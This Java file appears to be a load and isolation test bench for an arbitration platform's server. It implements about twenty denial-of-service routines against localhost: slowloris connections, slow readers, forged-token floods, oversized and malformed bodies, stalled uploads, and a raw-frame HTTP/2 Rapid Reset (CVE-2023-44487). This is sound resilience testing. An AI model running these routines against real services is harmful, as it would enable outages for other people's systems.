package io.arbitration.command.bench;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/** Every attack that others must not feel. */
final class Attacks {

    /** Characters of three bytes each: what a draft may hold weighs three times its length. */
    private static final String LONG_TEXT = "仲".repeat(50_000);
    private static final String HEAD = " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n";
    private static final int BODY_BYTES = 1_048_576;

    private Attacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack("large drafts", "one user with many large drafts lists them over and over", Attacks::draft,
                        stage -> stage.together(8, () -> stage.post("/api/filings/list", stage.attacker().token(), inOwnCase(stage).put("limit", 200).encode()))),
                new Attack("slow bodies", "a stranger's connections hold nearly whole bodies",
                        stage -> stage.hold(stage.many() * 3, "POST /auth/sessions/refresh" + HEAD + "Content-Length: " + BODY_BYTES + "\r\n\r\n"
                                + " ".repeat(BODY_BYTES - 1000), " ", Duration.ofMillis(200))),
                new Attack("reference page", "sixteen connections fetch the script of the reference page, compressed",
                        stage -> stage.together(16, () -> stage.get("/docs/swagger-ui-bundle.js", "Accept-Encoding", "gzip"))),
                new Attack("contracts", "sixteen connections fetch the contract of all areas, compressed",
                        stage -> stage.together(16, () -> stage.get("/openapi/platform.yaml", "Accept-Encoding", "gzip"))),
                new Attack("unknown paths", "sixteen connections ask for what is not there",
                        stage -> stage.together(16, () -> stage.get("/" + UUID.randomUUID(), "Accept-Encoding", "gzip"))),
                new Attack("idle connections", "one address opens connections and says nothing",
                        stage -> stage.hold(stage.many() * 20, "", "", Duration.ofSeconds(5))),
                new Attack("slow heads", "one address sends a byte of a head every while",
                        stage -> stage.hold(stage.many() * 10, "GET /docs HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", "a", Duration.ofMillis(500))),
                new Attack("slow readers", "one address asks for a large file over and over and reads nothing", Attacks::readNothing),
                new Attack("wrong tokens", "sixteen connections guess access tokens, a new one each time", Attacks::guessTokens),
                new Attack("wrong refresh tokens", "sixteen connections guess refresh tokens",
                        stage -> stage.together(16, () -> stage.post("/auth/sessions/refresh", null,
                                new JsonObject().put("refreshToken", secret()).encode()))),
                new Attack("chains verified", "one user verifies a docket over and over",
                        stage -> stage.together(16, () -> stage.post("/api/docket/verify", stage.attacker().token(), inOwnCase(stage).encode()))),
                new Attack("exports unread", "one user asks for exports and reads nothing", Attacks::exportUnread),
                new Attack("uploads that stall", "one user begins uploads and does not go on", Attacks::stallUploads),
                new Attack("long forms", "a stranger fills forms with as much text as they take",
                        stage -> stage.together(16, () -> stage.post("/pdfs/templates/fill", null, longForm()))),
                new Attack("webhook tests", "one organization tests a webhook that never answers", Attacks::testWebhooks),
                new Attack("organizations", "one user creates organizations and asks others into them", Attacks::organize),
                new Attack("broken bodies", "sixteen connections send bodies that break every rule",
                        stage -> stage.together(16, () -> stage.post("/api/filings/create", stage.attacker().token(), brokenBody()))),
                new Attack("many writes", "one user changes a draft of its own as fast as it can", Attacks::changeDraft),
                new Attack("streams reset", "HTTP/2 streams are opened and reset at once (CVE-2023-44487)", Attacks::resetStreams));
    }

    private static JsonObject inOwnCase(AttackStage stage) {
        return new JsonObject().put("caseID", stage.caseId());
    }

    private static String secret() {
        byte[] bytes = new byte[32];
        new SecureRandom().nextBytes(bytes);
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static JsonObject motion(AttackStage stage) {
        return inOwnCase(stage).put("documentID", "motion").put("fields", new JsonObject()
                .put("motionTitle", "Motion").put("requestedOrder", "All of it.").put("grounds", LONG_TEXT));
    }

    private static void draft(AttackStage stage) throws Exception {
        for (int i = 0; i < stage.many() * 5; i++) {
            int status = stage.post("/api/filings/create", stage.attacker().token(), motion(stage).encode());
            if (status != 200) {
                // As many as one may have.
                return;
            }
        }
    }

    private static void changeDraft(AttackStage stage) throws Exception {
        stage.together(16, () -> stage.post("/api/filings/create", stage.attacker().token(), motion(stage).encode()));
    }

    private static void readNothing(AttackStage stage) throws Exception {
        stage.together(stage.many(), () -> {
            try (Socket socket = stage.connect()) {
                socket.setReceiveBufferSize(4096);
                for (int i = 0; i < 20; i++) {
                    AttackStage.send(socket, "GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: localhost\r\n\r\n");
                }
                stage.pause(Duration.ofSeconds(30));
            }
        });
    }

    /** Each has the form of a token, so that its signature has to be looked at. */
    private static void guessTokens(AttackStage stage) throws Exception {
        String head = stage.attacker().token().split("\\.")[0];
        Base64.Encoder base64 = Base64.getUrlEncoder().withoutPadding();
        stage.together(16, () -> {
            byte[] signature = new byte[64];
            new Random().nextBytes(signature);
            String claims = new JsonObject().put("sub", UUID.randomUUID().toString()).put("exp", System.currentTimeMillis() / 1000 + 3000).encode();
            stage.post("/auth/users/me", head + "." + base64.encodeToString(claims.getBytes(StandardCharsets.UTF_8)) + "." + base64.encodeToString(signature), "{}");
        });
    }

    private static String authorized(AttackStage stage) {
        return "Authorization: Bearer " + stage.attacker().token() + "\r\n";
    }

    private static void exportUnread(AttackStage stage) throws Exception {
        String body = inOwnCase(stage).encode();
        stage.together(stage.many() / 2, () -> {
            try (Socket socket = stage.connect()) {
                socket.setReceiveBufferSize(4096);
                AttackStage.send(socket, "POST /cases/cases/export" + HEAD + authorized(stage) + "Content-Length: " + body.length() + "\r\n\r\n" + body);
                stage.pause(Duration.ofSeconds(30));
            }
        });
    }

    private static void stallUploads(AttackStage stage) throws Exception {
        String part = "--b\r\nContent-Disposition: form-data; name=\"";
        String form = part + "caseID\"\r\n\r\n" + stage.caseId() + "\r\n" + part + "categoryID\"\r\n\r\ncontract\r\n" + part + "description\"\r\n\r\nA contract\r\n"
                + part + "file\"; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n" + " ".repeat(100_000);
        stage.hold(stage.many() * 2, "POST /api/evidence/uploads/create HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                + authorized(stage) + "Content-Length: 100000000\r\n\r\n" + form, " ", Duration.ofMillis(200));
    }

    private static String longForm() {
        JsonObject placeholders = new JsonObject();
        for (String name : List.of("claimant", "respondent")) {
            placeholders.put(name, "Word ".repeat(19_000) + new Random().nextInt());
        }
        return new JsonObject().put("documentID", "award").put("placeholders", placeholders).encode();
    }

    private static void testWebhooks(AttackStage stage) throws Exception {
        try (ServerSocket silent = new ServerSocket(0, 1000)) {
            String url = "http://127.0.0.1:%d/hook".formatted(silent.getLocalPort());
            stage.post("/auth/organizations/create", stage.attacker().token(), new JsonObject().put("name", "Silent").encode());
            stage.post("/webhooks/urls/create", stage.attacker().token(), new JsonObject().put("url", url).encode());
            stage.together(32, () -> stage.post("/webhooks/urls/test", stage.attacker().token(), new JsonObject().put("url", url).encode()));
        }
    }

    private static void organize(AttackStage stage) throws Exception {
        stage.together(16, () -> {
            stage.post("/auth/organizations/create", stage.attacker().token(), new JsonObject().put("name", "Org " + UUID.randomUUID()).encode());
            stage.post("/auth/organizations/invitations/create", stage.attacker().token(), new JsonObject()
                    .put("organizationID", UUID.randomUUID().toString()).put("email", UUID.randomUUID() + "@example.org").encode());
        });
    }

    /** A million characters of arrays in arrays, of wrong members and of long numbers. */
    private static String brokenBody() {
        JsonArray items = new JsonArray();
        for (int i = 0; i < 20_000; i++) {
            items.add(new JsonObject().put("unknown" + i, List.of(i, "x", new JsonObject())));
        }
        return new JsonObject().put("caseID", items).put("fields", items.copy()).encode();
    }

    /** Frames as they stand in RFC 9113: a stream is opened and reset a thousand times before anything is read. */
    private static void resetStreams(AttackStage stage) throws Exception {
        // Indexed fields of the static table: GET, http, /; and :authority as a literal.
        byte[] head = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'};
        stage.together(16, () -> {
            try (Socket socket = stage.connect()) {
                ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                bytes.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                frame(bytes, 4, 0, 0, new byte[0]);
                for (int stream = 1; stream < 2000; stream += 2) {
                    frame(bytes, 1, 5, stream, head);
                    frame(bytes, 3, 0, stream, ByteBuffer.allocate(4).putInt(8).array());
                }
                socket.getOutputStream().write(bytes.toByteArray());
                byte[] answer = new byte[4096];
                while (!stage.isOver() && socket.getInputStream().read(answer) >= 0) {
                    stage.pause(Duration.ofMillis(1));
                }
            }
        });
    }

    private static void frame(ByteArrayOutputStream to, int type, int flags, int stream, byte[] payload) {
        to.writeBytes(ByteBuffer.allocate(9).put((byte) 0).putShort((short) payload.length).put((byte) type).put((byte) flags).putInt(stream).array());
        to.writeBytes(payload);
    }
}
